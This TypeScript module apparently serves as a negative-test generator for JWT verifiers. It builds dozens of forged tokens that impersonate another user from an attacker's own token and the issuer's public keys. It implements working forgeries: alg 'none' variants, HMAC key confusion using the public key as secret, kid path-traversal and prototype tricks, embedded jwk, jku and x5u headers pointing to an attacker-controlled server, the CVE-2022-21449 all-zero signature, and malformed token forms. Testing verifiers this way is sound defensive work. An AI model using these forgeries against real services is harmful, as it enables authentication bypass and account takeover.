import { createHmac, createPublicKey, generateKeyPairSync, sign, type KeyObject } from "node:crypto";

/** What an attacker has: a token of their own (ES256), the issuer's public keys, a server. */
export interface AttackersMeans {
  readonly token: string;
  readonly jwks: { readonly keys: readonly object[] };
  readonly server: string;
}

type Json = Record<string, unknown>;

export const encode = (value: unknown): string =>
  Buffer.from(typeof value === "string" ? value : JSON.stringify(value)).toString("base64url");
export const decode = (part = ""): Json => JSON.parse(Buffer.from(part, "base64url").toString()) as Json;

/** A token with any header and payload; either may be the JSON text itself. */
export function signToken(header: object | string, payload: object | string, privateKey: KeyObject): string {
  const signed = `${encode(header)}.${encode(payload)}`;
  const signature = sign("sha256", Buffer.from(signed), { key: privateKey, dsaEncoding: "ieee-p1363" });
  return `${signed}.${signature.toString("base64url")}`;
}

/** Tokens for someone else (`ada`), by name of the attack: none may be taken for theirs. */
export function forgeries({ token, jwks, server }: AttackersMeans): Record<string, string> {
  const [headerPart = "", payloadPart = "", signaturePart = ""] = token.split(".");
  const header = decode(headerPart);
  const claims = { ...decode(payloadPart), sub: "ada" };
  return {
    ...withoutSignature(header, claims, signaturePart),
    ...withSharedSecrets(header, claims, jwks),
    ...withForeignKeys(header, claims, server),
    ...withAlteredSignature(`${headerPart}.${payloadPart}`, signaturePart),
    ...withAlteredForm(header, claims, token),
  };
}

function withoutSignature(header: Json, claims: Json, signature: string): Record<string, string> {
  const spellings = ["none", "None", "NONE", "nOnE", " none", "none ", "", null, ["none"], undefined];
  return Object.fromEntries(
    spellings.flatMap((alg) => {
      const unsigned = `${encode({ ...header, alg })}.${encode(claims)}`;
      const name = `alg ${alg === undefined ? "absent" : JSON.stringify(alg)}`;
      return [
        [`${name}, no signature`, `${unsigned}.`],
        [`${name}, two parts`, unsigned],
        [`${name}, another token's signature`, `${unsigned}.${signature}`],
        [`${name}, any signature`, `${unsigned}.c2ln`],
      ];
    }),
  );
}

/** The public key, taken for the secret of an HMAC. */
function withSharedSecrets(header: Json, claims: Json, jwks: AttackersMeans["jwks"]): Record<string, string> {
  const jwk = jwks.keys.find((one) => (one as Json)["kid"] === header["kid"]) as Json;
  const publicKey = createPublicKey({ key: jwk, format: "jwk" });
  const pem = publicKey.export({ type: "spki", format: "pem" }).toString();
  const secrets: Record<string, string | Buffer> = {
    "the public key in PEM": pem,
    "the public key in PEM without its last line end": pem.trim(),
    "the public key in DER": publicKey.export({ type: "spki", format: "der" }),
    "the JWK": JSON.stringify(jwk),
    "the JWK set": JSON.stringify(jwks),
    "the JWK's x": Buffer.from(String(jwk["x"]), "base64url"),
    "the key id": String(header["kid"]),
    nothing: "",
  };
  const algorithms = { HS256: "sha256", HS384: "sha384", HS512: "sha512" };
  return Object.fromEntries(
    Object.entries(secrets).flatMap(([name, secret]) =>
      Object.entries(algorithms).map(([alg, hash]) => {
        const unsigned = `${encode({ ...header, alg })}.${encode(claims)}`;
        const mac = createHmac(hash, secret).update(unsigned).digest("base64url");
        return [`${alg} with ${name} as its secret`, `${unsigned}.${mac}`];
      }),
    ),
  );
}

/** Signed by the attacker's own key, which the token itself says to take. */
function withForeignKeys(header: Json, claims: Json, server: string): Record<string, string> {
  const { publicKey, privateKey } = generateKeyPairSync("ec", { namedCurve: "P-256" });
  const { kid: _kid, ...withoutKid } = header;
  const jwk = { ...publicKey.export({ format: "jwk" }), kid: header["kid"], alg: "ES256", use: "sig" };
  const by = (changes: Json) => signToken({ ...header, ...changes }, claims, privateKey);
  return {
    "another key under the issuer's kid": by({}),
    "a foreign kid": by({ kid: "attacker" }),
    "no kid": signToken(withoutKid, claims, privateKey),
    "an empty kid": by({ kid: "" }),
    "a kid that is a number": by({ kid: 0 }),
    "a kid that is null": by({ kid: null }),
    "a kid that is a list": by({ kid: [header["kid"]] }),
    "a kid that is inherited": by({ kid: "__proto__" }),
    "a kid that is a path": by({ kid: "../../../../dev/null" }),
    "a kid that is an address": by({ kid: `${server}/jwks.json` }),
    "an embedded jwk": by({ jwk }),
    "an embedded jwk and no kid": signToken({ ...withoutKid, jwk }, claims, privateKey),
    "a jku to the attacker's server": by({ jku: `${server}/jwks.json` }),
    "a jku and a foreign kid": by({ jku: `${server}/jwks.json`, kid: "attacker" }),
    "an x5u to the attacker's server": by({ x5u: `${server}/cert.pem` }),
    "an embedded x5c": by({ x5c: [publicKey.export({ type: "spki", format: "der" }).toString("base64")] }),
    "an issuer that is the attacker's": signToken(header, { ...claims, iss: server }, privateKey),
    "crit with an extension": by({ crit: ["exp"], exp: 1 }),
    "an unencoded payload (b64)": by({ crit: ["b64"], b64: false }),
    "duplicate alg, none last": signToken(
      `${JSON.stringify(header).slice(0, -1)},"alg":"none"}`,
      claims,
      privateKey,
    ),
  };
}

/** An own token whose signature no longer is the issuer's. */
function withAlteredSignature(signed: string, signature: string): Record<string, string> {
  const bytes = Buffer.from(signature, "base64url");
  const [r, s] = [bytes.subarray(0, 32), bytes.subarray(32)];
  const flipped = Buffer.from(bytes);
  flipped[40] = (flipped[40] ?? 0) ^ 1;
  const integer = (part: Buffer) => {
    const first = part.findIndex((byte) => byte !== 0);
    const short = part.subarray(first);
    const positive = (short[0] ?? 0) > 127 ? Buffer.concat([Buffer.of(0), short]) : short;
    return Buffer.concat([Buffer.of(2, positive.length), positive]);
  };
  const der = Buffer.concat([integer(r), integer(s)]);
  const altered: Record<string, Buffer> = {
    "r and s swapped": Buffer.concat([s, r]),
    "one bit flipped": flipped,
    "its last byte cut off": bytes.subarray(0, -1),
    "a byte more": Buffer.concat([bytes, Buffer.of(0)]),
    "only r": r,
    // The "psychic signature" of CVE-2022-21449.
    "nothing but zeros": Buffer.alloc(64),
    "the DER form": Buffer.concat([Buffer.of(0x30, der.length), der]),
  };
  return {
    "signature stripped": `${signed}.`,
    "signature and its dot stripped": signed,
    ...Object.fromEntries(
      Object.entries(altered).map(([name, value]) => [
        `signature with ${name}`,
        `${signed}.${value.toString("base64url")}`,
      ]),
    ),
  };
}

function withAlteredForm(header: Json, claims: Json, token: string): Record<string, string> {
  const [headerPart = "", payloadPart = "", signature = ""] = token.split(".");
  const jwe = { alg: "dir", enc: "A256GCM", kid: header["kid"] };
  return {
    "another subject": `${headerPart}.${encode(claims)}.${signature}`,
    "another algorithm of the same family": `${encode({ ...header, alg: "ES384" })}.${payloadPart}.${signature}`,
    "another family": `${encode({ ...header, alg: "RS256" })}.${payloadPart}.${signature}`,
    "a nested token": `${encode({ ...header, cty: "JWT" })}.${encode(token)}.${signature}`,
    "a JWE": `${encode(jwe)}..${encode("iv")}.${encode(claims)}.${encode("tag")}`,
    "a JWE of three parts": `${encode(jwe)}.${encode(claims)}.${signature}`,
    "the JSON serialization": JSON.stringify({ payload: payloadPart, protected: headerPart, signature }),
    "four parts": `${token}.${signature}`,
    padding: `${headerPart}.${payloadPart}.${signature}==`,
    "padding of the payload": `${headerPart}.${payloadPart}=.${signature}`,
    "the plain base64 alphabet": `${headerPart}.${payloadPart}.+/${signature.slice(2)}`,
    "a space in it": `${headerPart}. ${payloadPart}.${signature}`,
    "a percent-encoded dot": token.replace(".", "%2E"),
    "quotes around it": `"${token}"`,
    "the scheme twice": `Bearer ${token}`,
    "a comma and a second token": `${token},${token}`,
    "a comma, the scheme and a second token": `${token}, Bearer ${token}`,
    "a space and a second token": `${token} ${token}`,
    "a payload that is a list": `${headerPart}.${encode([claims])}.${signature}`,
    "a payload that is null": `${headerPart}.${encode("null")}.${signature}`,
    "a header that is null": `${encode("null")}.${payloadPart}.${signature}`,
    "a header that is no JSON": `${encode("{")}.${payloadPart}.${signature}`,
    "dots alone": "..",
    nothing: "",
    "8 kB of letters": "x".repeat(8193),
    "9 kB in three parts": `${headerPart}.${encode({ ...claims, filler: "x".repeat(6500) })}.${signature}`,
  };
}
